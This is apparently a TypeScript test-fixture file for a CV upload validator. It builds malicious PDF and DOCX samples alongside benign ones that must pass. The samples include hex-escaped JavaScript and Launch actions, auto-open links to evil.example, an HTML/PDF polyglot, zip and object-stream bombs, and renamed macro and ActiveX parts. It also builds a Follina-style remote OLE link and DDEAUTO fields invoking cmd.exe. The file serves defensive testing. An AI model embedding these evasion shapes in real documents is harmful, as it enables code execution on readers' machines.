import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import {
  docx,
  docxZipBomb,
  objectStream,
  pdf,
  pdfPages,
  pdfStream,
  relationships,
  sampleDocx,
  wordDocument,
  zip,
  type ZipPart,
} from "./cv-files";

/**
 * One CV per rule of domain/careers/cv-pdf.ts and cv-docx.ts, each tripping that rule and no other (so a
 * rule deleted by mistake turns exactly its test red), and the attack shapes that once got through.
 */

// ---- PDF ----

/** A link the reader must click: allowed (a CV links to a profile). */
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`;
const withObject = (object: string) => pdf([...pdfPages({ page: "/Annots [5 0 R]" }), object]);

export const pdfSamples = {
  /** The header is not a PDF 1.x or 2.x header. */
  badHeader: () => pdf(pdfPages(), { header: "%PDF-9.1\n" }),
  /** No %%EOF in the last 2 KB. */
  noEndMarker: () => pdf(pdfPages(), { end: "" }),
  /** No startxref and no cross-reference stream. */
  noCrossReference: () => pdf(pdfPages(), { xref: false, end: "%%EOF\n" }),
  /** No object at all: the known quadratic shape (digits) ends here in linear time. */
  noObjects: (digits = 1000) => Buffer.from(`%PDF-1.4\n${"1".repeat(digits)}\nstartxref\n%%EOF\n`, "latin1"),
  /** A name that brings scripts or files, as a plain entry of the catalog. */
  activeName: (name: string) => pdf(pdfPages({ catalog: `/X /${name}` })),
  /** JavaScript behind a link, its names spelled with #xx escapes. */
  hexEscapedJavaScript: () => withObject(link("<< /S /J#61vaScript /J#53 (app.alert(1)) >>")),
  /** A launch action behind a link, spelled with an escape. */
  hexEscapedLaunch: () => withObject(link("<< /S /L#61unch /F (cmd.exe) >>")),
  /** A JavaScript action inside a compressed object stream, referenced by a link. */
  javaScriptInObjectStream: () =>
    pdf([
      ...pdfPages({ page: "/Annots [5 0 R]" }),
      link("7 0 R"),
      objectStream(["<< /S /JavaScript /JS (app.alert(1)) >>"], 7),
    ]),
  /** A web address opened as soon as the document is. */
  openActionUri: () => pdf(pdfPages({ catalog: "/OpenAction << /S /URI /URI (https://evil.example/) >>" })),
  /** The same through a reference and an action chain: a page to show, then (/Next) a web address. */
  openActionNextUri: () =>
    pdf([
      ...pdfPages({ catalog: "/OpenAction 5 0 R" }),
      "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>",
    ]),
  /** A page that opens a web address when it is shown (/AA /O). */
  pageOpenUri: () => pdf(pdfPages({ page: "/AA << /O << /S /URI /URI (https://evil.example/) >> >>" })),
  /** A PDF that a browser also reads as a page with a script (a comment after the header). */
  htmlPolyglot: () =>
    pdf(pdfPages(), {
      header: "%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n",
    }),
  /** An object stream that inflates past the decoding budget (40 MB of spaces). */
  objectStreamBomb: () => {
    const body = Buffer.concat([
      Buffer.from("5 0\n<< /A 1 >>", "latin1"),
      Buffer.alloc(40 * 1024 * 1024, 0x20),
    ]);
    return pdf([
      ...pdfPages(),
      pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(body)),
    ]);
  },
  /** An object stream in a filter we do not decode. */
  undecodableObjectStream: () => pdf([...pdfPages(), objectStream(["<< /A 1 >>"], 6, "/LZWDecode")]),
  /** An encrypted file whose objects sit in an object stream (encrypted, so unreadable to us). */
  encryptedObjectStream: () =>
    pdf([...pdfPages(), "<< /Filter /Standard /V 2 /R 3 >>", objectStream(["<< /A 1 >>"], 7)], {
      trailer: "<< /Size 7 /Root 1 0 R /Encrypt 5 0 R >>",
    }),
  /** Arrays nested deeper than any reader needs. */
  tooDeep: () => pdf([...pdfPages(), `${"[".repeat(101)}${"]".repeat(101)}`]),
  /** More values than any CV has (1,000,001 zeros). */
  tooManyValues: () => pdf([...pdfPages(), `[${"0 ".repeat(1_000_001)}]`]),
  /** An object stream whose offsets cut a name in two: a reader would read on into the next object. */
  cutObjectStream: () => {
    const body = "5 0 6 3\n/Ja" + "vaScript";
    return pdf([
      ...pdfPages(),
      pdfStream("/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode", deflateSync(Buffer.from(body, "latin1"))),
    ]);
  },
};

/** PDFs that must be accepted: what a CV exporter writes, and text that only looks like a rule. */
export const plainPdfs = {
  "a link to a profile": () => withObject(link("<< /S /URI /URI (https://www.linkedin.com/in/meera) >>")),
  "an /OpenAction that shows the first page": () => pdf(pdfPages({ catalog: "/OpenAction [3 0 R /Fit]" })),
  "an /OpenAction GoTo action": () =>
    pdf(pdfPages({ catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>" })),
  "rule names inside strings (a title and the page's text)": () =>
    pdf([
      ...pdfPages({ text: "Node/JS and /JavaScript, /Launch" }),
      "<< /Title (Node/JS developer /JavaScript) /Keywords <2f4a53> >>",
    ]),
  "objects in a compressed object stream and a cross-reference stream": () =>
    pdf([...pdfPages(), objectStream(["<< /Type /Metadata >>", "[1 2 3]"], 6)]),
  "HTML-like bytes in binary stream data": () =>
    pdf([...pdfPages(), pdfStream("/Filter /DCTDecode", Buffer.from("<htmlx <scripts <svg1", "latin1"))]),
};

// ---- DOCX ----

const NORMAL_CONTENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const withRelationship = (rel: [string, string, boolean?], parts: ZipPart[] = []) =>
  docx({ documentRels: relationships(rel), parts });

export const docxSamples = {
  /** The zip has an end record but its directory points outside the file. */
  damaged: () => {
    const bytes = Buffer.from(sampleDocx());
    bytes.writeUInt32LE(0x7fffffff, bytes.length - 6);
    return bytes;
  },
  /** A zip64 archive, as zip64 writers mark it. */
  zip64: () =>
    zip(
      [
        { name: "[Content_Types].xml", data: `<Types><Override ContentType="${NORMAL_CONTENT}"/></Types>` },
        { name: "word/document.xml", data: wordDocument() },
      ],
      { zip64: true },
    ),
  /** Parts whose declared sizes add up to over 50 MB (each within 200:1). */
  declaredOverBudget: () =>
    docx({
      parts: Array.from({ length: 6 }, (_, i) => ({
        name: `word/media/part${i}.bin`,
        data: randomBytes(60_000),
        declaredSize: 10 * 1024 * 1024,
      })),
    }),
  /** One part packed more than 200:1 (1 MB of zeros in about 1 KB), its headers honest. */
  ratio: () => docx({ parts: [{ name: "word/media/zeros.bin", data: Buffer.alloc(1024 * 1024) }] }),
  /** Headers that lie: 20 MB of zeros declared as 20,000 bytes (within the ratio and the total). */
  lyingHeaders: docxZipBomb,
  /** A part that inflates to less than it declares. */
  shorterThanDeclared: () =>
    docx({ parts: [{ name: "word/media/short.bin", data: Buffer.alloc(100, 7), declaredSize: 200 }] }),
  /** Two parts of one name: two programs could read different documents. */
  duplicateName: () =>
    zip([
      { name: "[Content_Types].xml", data: `<Types><Override ContentType="${NORMAL_CONTENT}"/></Types>` },
      { name: "word/document.xml", data: wordDocument() },
      { name: "word/document.xml", data: wordDocument("<w:r><w:t>other</w:t></w:r>") },
    ]),
  /** A local header naming another part than the central directory does. */
  localNameMismatch: () => {
    const bytes = Buffer.from(sampleDocx());
    // The first local header's name starts at byte 30: "[Content_Types].xml" becomes "XContent_Types].xml".
    bytes.write("X", 30, "latin1");
    return bytes;
  },
  /** Content types of a macro-enabled document (.docm) and nothing else of one. */
  macroContentType: () => docx({ main: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
  /** A VBA project part by its usual name, referred to by nothing. */
  macroPartName: () => docx({ parts: [{ name: "word/vbaProject.bin", data: Buffer.alloc(64, 1) }] }),
  /** The VBA project under another name, still its relationship type (the renamed macro). */
  renamedMacro: () =>
    withRelationship(
      ["http://schemas.microsoft.com/office/2006/relationships/vbaProject", "notes.bin"],
      [{ name: "word/notes.bin", data: Buffer.alloc(64, 1) }],
    ),
  /** An ActiveX control part by its usual folder. */
  activeXPartName: () => docx({ parts: [{ name: "word/activeX/activeX1.xml", data: "<ax:ocx/>" }] }),
  /** An ActiveX control under another name, by its relationship type. */
  renamedActiveX: () =>
    withRelationship(["control", "controls/c1.xml"], [{ name: "word/controls/c1.xml", data: "<ax:ocx/>" }]),
  /** A template loaded from the internet when the document opens (settings.xml.rels, attachedTemplate). */
  remoteTemplate: () =>
    docx({
      parts: [
        {
          name: "word/_rels/settings.xml.rels",
          data: relationships(["attachedTemplate", "https://evil.example/template.dotm", true]),
        },
      ],
    }),
  /** The Follina shape: an OLE object linked to an mhtml: address outside the package. */
  externalOleObject: () =>
    withRelationship([
      "oleObject",
      "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html",
      true,
    ]),
  /** A picture fetched from a web address, TargetMode left out. */
  externalTargetWithoutMode: () => withRelationship(["image", "https://evil.example/pixel.png"]),
  /** A DDEAUTO field whose instruction is split over two runs. */
  ddeInstrText: () =>
    docx({
      document: wordDocument(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
    }),
  /** A DDE simple field, its D spelled as a character reference, in lower case. */
  ddeFieldSimple: () =>
    docx({
      document: wordDocument(
        '<w:fldSimple w:instr=" &#68;de cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
      ),
    }),
  /** A zip that holds no Word document. */
  notWord: () => zip([{ name: "readme.txt", data: "hello" }]),
};

/** DOCX that must be accepted. */
export const plainDocxs = {
  "a hyperlink to a profile (external, clicked)": () =>
    withRelationship(["hyperlink", "https://www.linkedin.com/in/meera", true]),
  "a page-number field": () =>
    docx({
      document: wordDocument(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
    }),
  "the word DDE in the text": () =>
    docx({ document: wordDocument("<w:r><w:t>DDEAUTO and DDE are fields</w:t></w:r>") }),
  "a picture inside the package": () =>
    withRelationship(
      ["image", "media/image1.png"],
      [{ name: "word/media/image1.png", data: Buffer.alloc(2000, 9) }],
    ),
};
